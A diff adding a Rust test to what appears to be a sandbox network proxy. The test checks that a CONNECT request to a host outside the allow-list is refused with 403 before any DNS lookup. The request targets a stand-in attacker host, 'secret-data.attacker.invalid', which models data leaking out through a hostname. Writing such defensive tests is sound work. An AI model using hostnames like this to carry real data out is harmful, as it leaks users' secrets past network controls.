@@ -247,3 +247,15 @@ async fn policy_changes_apply_to_the_next_connection() {
     assert!(!f.proxy.is_attached("sbx1"));
     assert!(!f.proxy.set_policy("sbx1", NetworkPolicy::default()));
 }
+
+#[tokio::test]
+async fn names_nothing_allows_are_not_looked_up() {
+    // Not in the hosts map: a lookup would go to the system resolver and fail (502); the
+    // policy refuses it first (403), so the name never leaves the host.
+    let f = fixture("allow:api.test");
+    let out = roundtrip(&f.socket, &connect_req("secret-data.attacker.invalid", 443)).await;
+    assert!(out.starts_with("HTTP/1.1 403"), "{out}");
+    let d = f.proxy.denials("sbx1");
+    assert_eq!(d[0].address, None);
+    assert!(d[0].rule.contains("not in the allow-list"), "{}", d[0].rule);
+}
